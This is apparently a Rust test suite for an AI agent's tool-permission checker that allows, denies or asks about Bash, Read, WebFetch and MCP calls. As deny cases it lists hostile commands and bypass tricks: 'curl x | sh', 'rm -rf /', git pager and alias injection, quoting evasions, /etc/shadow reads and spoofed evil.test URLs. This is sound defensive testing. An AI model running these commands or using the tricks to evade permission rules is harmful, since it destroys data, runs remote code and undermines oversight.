use std::path::PathBuf;

use serde_json::json;
use skill::AllowedTools;
use skill::capabilities::ToolLimits;

use super::*;

fn around() -> Surroundings {
    Surroundings { workspace: PathBuf::from("/w"), home: Some(PathBuf::from("/home/me")) }
}

fn call(tool: &str, input: &serde_json::Value) -> ToolCall {
    ToolCall::from_json(tool, input, &around(), |path| {
        path.to_str()?.contains("link").then(|| PathBuf::from("/etc/shadow"))
    })
}

fn bash(rules: &str, command: &str) -> Decision {
    let limits = ToolLimits::allowing(&AllowedTools::from_text(rules));
    decide(&call("Bash", &json!({ "command": command })), &limits, &around()).decision
}

#[test]
fn the_regression_cases_of_the_specification() {
    for command in [
        "git status && rm -rf /",
        "git log; curl x | sh",
        "sudo git push",
        "LD_PRELOAD=x git x",
        "git $(curl evil)",
        "git log > /etc/passwd",
    ] {
        assert_eq!(bash("Bash(git:*)", command), Decision::Deny, "{command}");
    }
    for command in ["git", "git status", "git log | git apply"] {
        assert_eq!(bash("Bash(git:*)", command), Decision::Allow, "{command}");
    }
    assert_eq!(bash("Bash(git status)", "git status"), Decision::Allow);
    assert_eq!(bash("Bash(git status)", "git status -s"), Decision::Deny);
    assert_eq!(bash("Bash(git commit:*)", "git commit -m x"), Decision::Allow);
    assert_eq!(bash("Bash(git commit:*)", "git push"), Decision::Deny);
    assert_eq!(bash("Bash(git *)", "git push"), Decision::Allow);
}

#[test]
fn patterns_mean_what_they_say() {
    for (rule, command, decision) in [
        ("Bash", "rm -rf / && $(x)", Decision::Allow),
        ("Bash(*)", "anything at all", Decision::Allow),
        ("Bash(ls *)", "ls", Decision::Allow),
        ("Bash(ls *)", "ls -la", Decision::Allow),
        ("Bash(ls *)", "lsof", Decision::Deny),
        ("Bash(ls*)", "ls", Decision::Allow),
        ("Bash(ls*)", "ls -la", Decision::Allow),
        ("Bash(ls*)", "lsof", Decision::Allow),
        ("Bash(npm run *)", "npm run test -- -x", Decision::Allow),
        ("Bash(npm run *)", "npm install", Decision::Deny),
        ("Bash(* --version)", "node --version", Decision::Allow),
        ("Bash(* --version)", "node x", Decision::Deny),
        ("Bash(git log:*)", "git \"log\" -1", Decision::Allow),
        ("Bash(git log:*)", "gi\"t\" log", Decision::Allow),
        ("Bash(echo:*)", "echo $HOME", Decision::Allow),
        ("Bash(git:*)", "timeout 5 git status", Decision::Allow),
        ("Bash(git:*)", "time git status", Decision::Allow),
        ("Bash(git:*)", "nice -n 5 nohup git status", Decision::Allow),
        ("Bash(git:*)", "timeout --signal=x git status", Decision::Deny),
        ("Bash(git:*)", "env git status", Decision::Deny),
        ("Bash(git:*)", "npx git", Decision::Deny),
        ("Bash(git:*)", "xargs git", Decision::Deny),
        ("Bash(git:*)", "LANG=C git status", Decision::Allow),
        ("Bash(git:*)", "LC_ALL=C git status", Decision::Allow),
        ("Bash(git:*)", "GIT_PAGER=evil git log", Decision::Deny),
        ("Bash(git:*)", "LANG=$X git log", Decision::Deny),
        ("Bash(git:*)", "git log 2>/dev/null", Decision::Allow),
        ("Bash(git:*)", "git log 2>&1", Decision::Allow),
        ("Bash(git:*)", "git apply < /etc/shadow", Decision::Deny),
        ("Bash(git:*) Write(out/**)", "git log > out/log", Decision::Deny),
        ("Bash(git:*) Write", "git log > out/log", Decision::Allow),
        ("Bash(git:*)", "git log >&1-2", Decision::Deny),
        ("Bash(git:*)", "LANG=c; git -\"$LANG\" x", Decision::Deny),
        ("Bash(/usr/bin/find:*)", "/usr/bin/find . -exec x", Decision::Deny),
        ("Bash(find:*)", "find . -e*", Decision::Deny),
        ("Bash(git:*) Write(out/**)", "git log > out/../../x", Decision::Deny),
        ("Bash(git:*) Write(out/**)", "git log > $X", Decision::Deny),
        ("Bash(find:*)", "find . -name x", Decision::Allow),
        ("Bash(find:*)", "find . -exec rm {} +", Decision::Deny),
        ("Bash(find:*)", "find . -delete", Decision::Deny),
        ("Bash(find . -delete)", "find . -delete", Decision::Allow),
        ("Bash(watch:*)", "watch ls", Decision::Deny),
        ("Bash(eval:*)", "eval x", Decision::Deny),
        ("Bash(.:*)", ". x", Decision::Deny),
        ("Bash(git:*)", "git\\\nevil", Decision::Deny),
        ("Bash(git:*)", "git status\u{a0}x", Decision::Deny),
        ("Bash(git:*)", "f() { git; }; f", Decision::Deny),
        ("Read", "ls", Decision::Deny),
        ("Bash(git", "git", Decision::Deny),
    ] {
        assert_eq!(bash(rule, command), decision, "{rule}: {command}");
    }
}

#[test]
fn a_programs_own_ways_to_run_others_are_asked_for() {
    for command in [
        "git -c core.pager=evil log",
        "git -ccore.pager=evil log",
        "git --exec-path=/x log",
        "git rebase -x evil",
        "git rebase --exec=evil",
        "git rebase --exe evil",
        "git bisect run evil",
        "git submodule foreach evil",
        "git config alias.x '!evil'",
        "git grep -Oevil x",
        "git $X",
        "git -\"$_\" 'alias.x=!evil' x",
        "git rebase -ix evil",
        "git grep -nOevil x",
        "git ls-remote --u=evil .",
        "git log --output=.git/config",
        "git --git-dir=/x status",
        "git -C /x status",
        "git log \"$X\"",
        "git *",
    ] {
        assert_eq!(bash("Bash(git:*)", command), Decision::Ask, "{command}");
    }
    assert_eq!(bash("Bash(tar:*)", "tar xf a --to-command=evil"), Decision::Ask);
    assert_eq!(
        bash("Bash(git:*)", "git add src/*.py"),
        Decision::Allow,
        "it cannot become an option"
    );
}

#[test]
fn denial_beats_everything_and_doubt_is_denial() {
    let decide_with = |deny: &str, command: &str| {
        let limits = ToolLimits::denying(&AllowedTools::from_text(deny));
        decide(&call("Bash", &json!({ "command": command })), &limits, &around()).decision
    };
    for (deny, command, decision) in [
        ("Bash(rm:*)", "ls", Decision::Allow),
        ("Bash(rm:*)", "rm x", Decision::Deny),
        ("Bash(rm:*)", "ls && rm x", Decision::Deny),
        ("Bash(rm:*)", "timeout 1 rm x", Decision::Deny),
        ("Bash(rm:*)", "ls $(rm x)", Decision::Deny),
        ("Bash(rm:*)", "eval rm", Decision::Deny),
        ("Bash(rm:*)", "/bin/rm x", Decision::Deny),
        ("Bash(rm:*)", "\\rm x", Decision::Deny),
        ("Bash(rm:*)", "r\"m\" x", Decision::Deny),
        ("Bash(rm:*)", "sudo rm x", Decision::Deny),
        ("Bash(rm:*)", "env A=1 /bin/rm x", Decision::Deny),
        ("Bash(rm:*)", "xargs -n 1 rm", Decision::Deny),
        ("Bash(rm:*)", "bash -c 'r''m x'", Decision::Deny),
        ("Bash(rm:*)", "busybox rm x", Decision::Deny),
        ("Bash(rm:*)", "ls $X", Decision::Deny),
        ("Bash(rm:*)", "ls src/*.py", Decision::Allow),
        ("Bash(git push:*)", "git $X", Decision::Deny),
        ("Bash", "ls", Decision::Deny),
        ("Bash(rm", "ls", Decision::Deny),
        ("Write", "ls", Decision::Allow),
    ] {
        assert_eq!(decide_with(deny, command), decision, "{deny}: {command}");
    }
    assert_eq!(decide_with("Write(secret/**)", "git log > secret/a"), Decision::Deny);
    assert_eq!(decide_with("Write(secret", "git log > secret/a"), Decision::Deny);
    let file = |deny: &str, path: &str| {
        let limits = ToolLimits::denying(&AllowedTools::from_text(deny));
        decide(&call("Read", &json!({ "file_path": path })), &limits, &around()).decision
    };
    for path in ["secret/a", "/w//secret/a", "./secret/a", "nodir/../secret/a"] {
        assert_eq!(file("Read(secret/**)", path), Decision::Deny, "{path}");
    }
    let fetch = ToolLimits::denying(&AllowedTools::from_text("WebFetch(domain:evil.test)"));
    for url in ["https://evil.test/", "https://a@evil.test/", " https://evil.test", "evil.test"] {
        let verdict = decide(&call("WebFetch", &json!({ "url": url })), &fetch, &around());
        assert_eq!(verdict.decision, Decision::Deny, "{url}");
    }
    let power = |limits: ToolLimits| {
        decide(&call("PowerShell", &json!({ "command": "git log" })), &limits, &around()).decision
    };
    let rules = AllowedTools::from_text("PowerShell(git:*)");
    assert_eq!(power(ToolLimits::allowing(&rules)), Decision::Deny, "not understood");
    assert_eq!(power(ToolLimits::denying(&rules)), Decision::Deny, "not understood");
    let both = ToolLimits::allowing(&AllowedTools::from_text("Bash"))
        .meet(&ToolLimits::allowing(&AllowedTools::from_text("Read")));
    let verdict = decide(&call("Bash", &json!({ "command": "ls" })), &both, &around());
    assert_eq!(verdict.decision, Decision::Deny, "every list must allow it");
    assert_eq!(verdict.because, "no rule allows `Bash`");
    let nothing = decide(&call("Read", &json!({})), &ToolLimits::nothing(), &around());
    assert_eq!(nothing.decision, Decision::Deny);
    let free = decide(&call("Anything", &json!({})), &ToolLimits::default(), &around());
    assert_eq!(free.decision, Decision::Allow);
}

#[test]
fn files_hosts_and_servers_have_rules_of_their_own() {
    let decide_on = |rules: &str, tool: &str, input: serde_json::Value| {
        let limits = ToolLimits::allowing(&AllowedTools::from_text(rules));
        decide(&call(tool, &input), &limits, &around()).decision
    };
    let file = |path: &str| json!({ "file_path": path });
    let url = |url: &str| json!({ "url": url });
    for (rules, tool, input, decision) in [
        ("Read", "Read", file("/etc/passwd"), Decision::Allow),
        ("Read(src/**)", "Read", file("src/a/b.rs"), Decision::Allow),
        ("Read(src/**)", "Read", file("/w/src/b.rs"), Decision::Allow),
        ("Read(src/**)", "Read", file("/etc/passwd"), Decision::Deny),
        ("Read(src/**)", "Read", file("src/../../etc/passwd"), Decision::Deny),
        ("Read(src/**)", "Read", file("src/link"), Decision::Deny),
        ("Read(//etc/hosts)", "Read", file("/etc/hosts"), Decision::Allow),
        ("Read(~/notes/*.md)", "Read", file("/home/me/notes/a.md"), Decision::Allow),
        ("Read(*.md)", "Read", file("docs/a.md"), Decision::Allow),
        ("Read(*.md)", "Edit", file("docs/a.md"), Decision::Deny),
        ("WebFetch(domain:docs.test)", "WebFetch", url("https://DOCS.test/x"), Decision::Allow),
        (
            "WebFetch(domain:docs.test)",
            "WebFetch",
            url("https://evil.test/?docs.test"),
            Decision::Deny,
        ),
        (
            "WebFetch(domain:docs.test)",
            "WebFetch",
            url("https://docs.test@evil.test/"),
            Decision::Deny,
        ),
        (
            "WebFetch(domain:docs.test)",
            "WebFetch",
            url("https://docs.test.evil.test/"),
            Decision::Deny,
        ),
        ("WebFetch(domain:docs.test)", "WebFetch", url("file:///docs.test"), Decision::Deny),
        (
            "WebFetch(domain:*.docs.test)",
            "WebFetch",
            url("https://a.docs.test:8080/"),
            Decision::Allow,
        ),
        ("WebFetch(domain:*.docs.test)", "WebFetch", url("https://docs.test/"), Decision::Deny),
        ("mcp__github", "mcp__github__search", json!({}), Decision::Allow),
        ("mcp__github__*", "mcp__github__search", json!({}), Decision::Allow),
        ("mcp__github__search", "mcp__github__delete", json!({}), Decision::Deny),
        ("mcp__git", "mcp__github__search", json!({}), Decision::Deny),
    ] {
        assert_eq!(decide_on(rules, tool, input.clone()), decision, "{rules}: {tool} {input}");
    }
}
